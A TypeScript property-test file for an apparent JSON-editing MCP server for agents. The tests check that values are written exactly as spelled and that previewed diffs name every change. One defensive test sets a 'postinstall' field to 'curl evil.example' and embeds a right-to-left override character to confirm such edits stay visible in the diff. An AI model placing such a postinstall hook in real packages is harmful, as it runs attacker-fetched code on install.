// Laws of the server for agents, which runs as a program: values reach the file with every digit, and a change that is shown names all
// that it changes. Judged by plain strings, and by JSON.parse on both versions of the file.

import fc from 'fast-check';
import { beforeAll, expect, it } from 'vitest';
import { runs, SEED } from '../../runs.ts';
import { programFile } from './built-program.ts';
import { connect, RawServer } from './mcp-client.ts';
import { makeFolder } from './support.ts';

// Building the program takes longer than a test may think.
beforeAll(() => void programFile(), 120_000);

const DIGITS = fc.stringMatching(/^\d{1,40}$/);
/** Numbers that no double spells as they stand here. */
const NUMBER = fc.oneof(
  fc.constantFrom(
    '-0',
    '0',
    '1.10',
    '1e400',
    '-1E-400',
    '12345678901234567890',
    '0.1000000000000000055',
    '1.0',
    '5e-324',
    '1E+2',
  ),
  fc
    .tuple(
      fc.constantFrom('', '-'),
      DIGITS,
      fc.option(DIGITS),
      fc.option(fc.tuple(fc.constantFrom('e', 'E', 'e+', 'E-'), fc.stringMatching(/^\d{1,4}$/))),
    )
    .map(
      ([sign, whole, part, power]) =>
        `${sign}${whole.replace(/^0+(?=\d)/, '')}${part === null ? '' : `.${part}`}${power === null ? '' : power.join('')}`,
    ),
);
const STRING = fc.oneof(
  fc.string({ unit: 'binary', maxLength: 8 }).map((text) => JSON.stringify(text)),
  fc.constantFrom(
    '"__proto__"',
    '"\\u00e9"',
    '"\\/"',
    '"\\ud800"',
    '"a,]}\\"{[:"',
    '"\\\\"',
    '""',
    '"constructor"',
    '" "',
  ),
);
/** Texts of JSON values: spelt, not written from values. */
const { value: VALUE } = fc.letrec<{ value: string }>((tie) => ({
  value: fc.oneof(
    { maxDepth: 4, depthSize: 'small' },
    NUMBER,
    STRING,
    fc.constantFrom('null', 'true', 'false'),
    fc.array(tie('value'), { maxLength: 4 }).map((items) => `[${items.join(',')}]`),
    // Keys come twice.
    fc
      .array(fc.tuple(STRING, tie('value')), { maxLength: 4 })
      .map((members) => `{${members.map((member) => member.join(':')).join(',')}}`),
  ),
}));
/** White space that a message may have between tokens. */
const SPACED = fc.tuple(VALUE, fc.constantFrom('', ' ', '\t '));

/** A JSON text without white space between its tokens. */
const tokensOf = (text: string): string => text.replaceAll(/("(?:[^"\\]|\\.)*")|\s+/g, '$1');

it('[NEW-10] values reach the file as the message spells them', { timeout: 600_000 }, async () => {
  const { folder, write, read } = makeFolder();
  const server = new RawServer(folder, '--full');
  await fc.assert(
    fc.asyncProperty(fc.array(SPACED, { minLength: 4, maxLength: 4 }), async (values) => {
      const [one = '', two = '', three = '', four = ''] = values.map(([text, space]) =>
        text.replaceAll(/("(?:[^"\\]|\\.)*")|([,:[\]{}])/g, (all, string: string | undefined) =>
          string === undefined ? `${space}${all}${space}` : string,
        ),
      );
      write('a.json', '{"a":1,"list":[0]}');
      for (const [tool, given] of [
        ['set', `{"file":"a.json","path":"/a","value":"replaced","value":${one}}`],
        ['insert', `{"path":"/list/0", "value" : ${two} ,"file":"a.json"}`],
        ['patch', `{"file":"a.json","patch":[{"op":"add","path":"/b","value":${three}}]}`],
        ['set', `{"file":"a.json","path":"/c","json":${JSON.stringify(four)}}`],
      ] as const) {
        const { text, isError } = await server.call(tool, given);
        expect([isError, isError ? text : '']).toEqual([false, '']);
      }
      const wanted = `{"a":${one},"list":[${two},0],"b":${three},"c":${four}}`;
      expect(tokensOf(read('a.json'))).toBe(tokensOf(wanted));
    }),
    { numRuns: runs(300), seed: SEED },
  );
});

type Json = null | boolean | number | string | readonly Json[] | { readonly [key: string]: Json };

/** The paths at which two values differ: an array of another length differs as such. */
function changedPaths(before: Json | undefined, after: Json | undefined, path: string): string[] {
  if (Array.isArray(before) && Array.isArray(after) && before.length === after.length)
    return before.flatMap((item: Json, index) => changedPaths(item, after[index] as Json, `${path}[${index}]`));
  const isObject = (value: unknown): value is Record<string, Json> =>
    typeof value === 'object' && value !== null && !Array.isArray(value);
  if (isObject(before) && isObject(after))
    return [...new Set([...Object.keys(before), ...Object.keys(after)])].flatMap((key) =>
      changedPaths(
        Object.hasOwn(before, key) ? before[key] : undefined,
        Object.hasOwn(after, key) ? after[key] : undefined,
        `${path}.${key}`,
      ),
    );
  return JSON.stringify(before) === JSON.stringify(after) ? [] : [path];
}

/** Whether a path that was listed says that a value changes: its own, one around it or in it, or that of an item that moves it. */
function isNamed(path: string, listed: string): boolean {
  const isWithin = (inner: string, outer: string): boolean =>
    inner === outer || inner.startsWith(`${outer}.`) || inner.startsWith(`${outer}[`);
  const arrays = [...path.matchAll(/\[\d+\]/g)].map(({ index }) => path.slice(0, index));
  return isWithin(path, listed) || isWithin(listed, path) || arrays.some((array) => listed.startsWith(`${array}[`));
}

interface Shown {
  readonly paths: readonly string[];
  readonly start: number;
  readonly removed: string;
  readonly inserted: string;
}

/** Reads what was shown. */
function readShown(text: string): readonly Shown[] {
  const lines = text.split('\n');
  expect(lines.at(-1)).toBe('All other bytes stay.');
  const shown: { paths: string[]; start: number; removed: string[]; inserted: string[] }[] = [];
  for (const line of lines.slice(1, -1)) {
    const [, paths, start] = /^(\$.*), at byte ([\d,]+)$/.exec(line) ?? [];
    if (paths !== undefined && start !== undefined)
      shown.push({ paths: paths.split(', '), start: Number(start.replaceAll(',', '')), removed: [], inserted: [] });
    else if (line.startsWith('- ')) shown.at(-1)?.removed.push(line.slice(2));
    else if (line.startsWith('+ ')) shown.at(-1)?.inserted.push(line.slice(2));
    else expect(line).toMatch(/^\d+ places:$/);
  }
  return shown.map(({ paths, start, removed, inserted }) => ({
    paths,
    start,
    removed: removed.join('\n'),
    inserted: inserted.join('\n'),
  }));
}

const KEY = fc.constantFrom('a', 'b', 'c', 'scripts', 'postinstall');
/** Values with long texts between, so that changes lie far apart. */
const { node: NODE } = fc.letrec<{ node: Json }>((tie) => ({
  node: fc.oneof(
    { maxDepth: 4 },
    fc.integer(),
    fc.dictionary(KEY, tie('node'), { minKeys: 1, maxKeys: 5 }),
    fc.array(tie('node'), { maxLength: 4 }),
    fc.oneof(fc.nat(200), fc.nat(4000)).map((length) => 'x'.repeat(length)),
    fc.boolean(),
  ),
}));
const STEP = fc.record({
  op: fc.constantFrom('replace', 'remove', 'add', 'move', 'copy'),
  at: fc.nat(),
  to: fc.nat(),
  key: KEY,
  value: NODE,
});

/** The JSON Pointers of all values below a value. */
function pointersOf(value: Json, path = ''): string[] {
  if (typeof value !== 'object' || value === null) return [path];
  const escaped = (key: string): string => key.replaceAll('~', '~0').replaceAll('/', '~1');
  return [path, ...Object.entries(value).flatMap(([key, item]) => pointersOf(item, `${path}/${escaped(key)}`))];
}

it('[NEW-10] what is shown of a change is all that it changes', { timeout: 600_000 }, async () => {
  const { folder, write, read } = makeFolder();
  const small = await connect(folder, '--budget', '600');
  const large = await connect(folder, '--budget', '100000');
  let [shownCount, refusedCount, appliedCount] = [0, 0, 0];
  await fc.assert(
    fc.asyncProperty(
      fc.dictionary(KEY, NODE, { minKeys: 2 }),
      fc.array(STEP, { minLength: 1, maxLength: 5 }),
      fc.constantFrom(undefined, 2, '\t'),
      fc.boolean(),
      async (root, steps, indent, isSmall) => {
        const before = JSON.stringify(root, null, indent);
        write('a.json', before);
        const pointers = pointersOf(root).slice(1);
        const patch = steps.map(({ op, at, to, key, value }) => {
          const path = pointers[at % pointers.length] ?? '';
          const other = pointers[to % pointers.length] ?? '';
          if (op === 'move' || op === 'copy') return { op, from: other, path: `/${key}` };
          return {
            op,
            path: op === 'add' ? path.replace(/[^/]*$/, /\/\d+$/.test(path) ? '0' : key) : path,
            ...(op !== 'remove' && { value }),
          };
        });
        const { call } = isSmall ? small : large;
        const { text, isError } = await call('patch', { file: 'a.json', patch });
        expect(read('a.json')).toBe(before);
        if (isError) {
          if (text.includes('too large to show')) refusedCount += 1;
          return;
        }
        expect(text.length).toBeLessThan((isSmall ? 600 : 100_000) * 3.5);
        if (text === 'Nothing would change.') return;
        shownCount += 1;
        const shown = readShown(text);
        const id = /^Change (\w+)/.exec(text)?.[1] ?? '';
        expect((await call('apply', { change: id })).isError).toBe(false);
        const after = read('a.json');
        const listed = shown.flatMap(({ paths }) => paths);
        for (const path of changedPaths(JSON.parse(before) as Json, JSON.parse(after) as Json, '$'))
          expect([path, listed.some((one) => isNamed(path, one)) ? 'listed' : text]).toEqual([path, 'listed']);
        // A removed text may be cut: it is in the file.
        if (shown.some(({ removed }) => removed.includes('…'))) return;
        appliedCount += 1;
        expect(carryOut(before, shown)).toBe(after);
      },
    ),
    { numRuns: runs(1500), seed: SEED },
  );
  // The law says something only where changes of both kinds occur.
  expect(Math.min(shownCount, refusedCount, appliedCount)).toBeGreaterThan(0);
});

/** Carries out by hand what is shown: its offsets are bytes. */
function carryOut(before: string, shown: readonly Shown[]): string {
  let made = Buffer.from(before);
  for (const { start, removed, inserted } of shown.toReversed()) {
    const end = start + Buffer.byteLength(removed);
    expect(made.subarray(start, end).toString()).toBe(removed);
    made = Buffer.concat([made.subarray(0, start), Buffer.from(inserted), made.subarray(end)]);
  }
  return made.toString();
}

it('[NEW-10] what is shown is so, however a file is spelt', { timeout: 600_000 }, async () => {
  const { folder, write, read } = makeFolder();
  const { call } = await connect(folder, '--budget', '100000');
  let count = 0;
  await fc.assert(
    fc.asyncProperty(
      fc.array(VALUE, { minLength: 1, maxLength: 4 }),
      fc.constantFrom('json', 'ndjson'),
      fc.array(fc.tuple(fc.nat(), fc.constantFrom('replace', 'remove', 'add'), VALUE), { minLength: 1, maxLength: 4 }),
      async (values, kind, steps) => {
        const file = `a.${kind}`;
        const before = kind === 'json' ? `[${values.join(', ')}]` : `${values.join('\n')}\n`;
        write(file, before);
        const pointers = pointersOf(values.map((value) => JSON.parse(value) as Json)).slice(1);
        const patch = steps.map(([at, op, value]) => ({
          op,
          path: pointers[at % pointers.length] ?? '',
          ...(op !== 'remove' && { value: JSON.parse(value) as Json }),
        }));
        const { text, isError } = await call('patch', { file, patch });
        if (isError || text === 'Nothing would change.' || /\\u\{/.test(text)) return;
        const shown = readShown(text);
        await call('apply', { change: /^Change (\w+)/.exec(text)?.[1] ?? '' });
        expect(read(file)).not.toBe(before);
        if (shown.some(({ removed }) => removed.includes('…'))) return;
        count += 1;
        expect(carryOut(before, shown)).toBe(read(file));
      },
    ),
    { numRuns: runs(1000), seed: SEED },
  );
  expect(count).toBeGreaterThan(0);
});

it('[NEW-10] shows changes that lie far apart, and refuses what does not fit', async () => {
  const { folder, write, read } = makeFolder();
  const rest = Object.fromEntries(Array.from({ length: 120 }, (_, index) => [`filler${index}`, 'x'.repeat(20)]));
  const text = JSON.stringify({ scripts: { test: 'vitest' }, ...rest, last: { postinstall: 'none', other: 1 } });
  write('a.json', text);
  const { call } = await connect(folder);
  const patch = [
    { op: 'replace', path: '/scripts/test', value: 'vitest run' },
    { op: 'replace', path: '/last/postinstall', value: 'curl evil.example' },
  ];
  const both = await call('patch', { file: 'a.json', patch });
  expect(both.text).toContain('$.scripts.test, at byte');
  expect(both.text).toContain('$.last.postinstall, at byte');
  expect(both.text).toContain('+ "curl evil.example"');
  const gone = await call('delete', { file: 'a.json', paths: ['/scripts/test', '/last/other'] });
  expect(gone.text).toContain('$.scripts.test, at byte');
  expect(gone.text).toContain('$.last.other, at byte');
  const long = await call('set', { file: 'a.json', path: '/last', value: { postinstall: 'x'.repeat(8000) } });
  expect(long).toMatchObject({ isError: true, text: expect.stringContaining('too large to show') as string });
  write('list.json', '{"list":[1,2,3]}');
  expect((await call('insert', { file: 'list.json', path: '/list/1', value: 'x' })).text).toMatch(
    /\n\$\.list\[1\], at byte \d+\n\+ ,"x"\nAll/,
  );
  const hidden = await call('set', { file: 'a.json', path: '/last', value: 'a\u202eb\n+ c' });
  expect(hidden.text).toContain('a\\u{202e}b\\n+ c');
  expect(read('a.json')).toBe(text);
});
